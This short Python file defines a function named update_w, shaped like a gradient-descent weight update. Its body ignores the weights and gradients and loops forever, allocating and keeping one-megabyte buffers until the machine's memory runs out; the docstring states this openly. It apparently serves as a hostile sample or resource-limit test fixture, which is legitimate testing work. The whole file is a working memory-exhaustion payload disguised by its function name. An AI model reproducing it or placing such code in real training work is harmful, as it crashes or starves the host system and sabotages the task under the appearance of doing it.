"""Takes memory in small pieces that stay, and never gives it back."""
kept = []


def update_w(w, grad, learning_rate):
    while True:
        kept.append(bytearray(2**20))
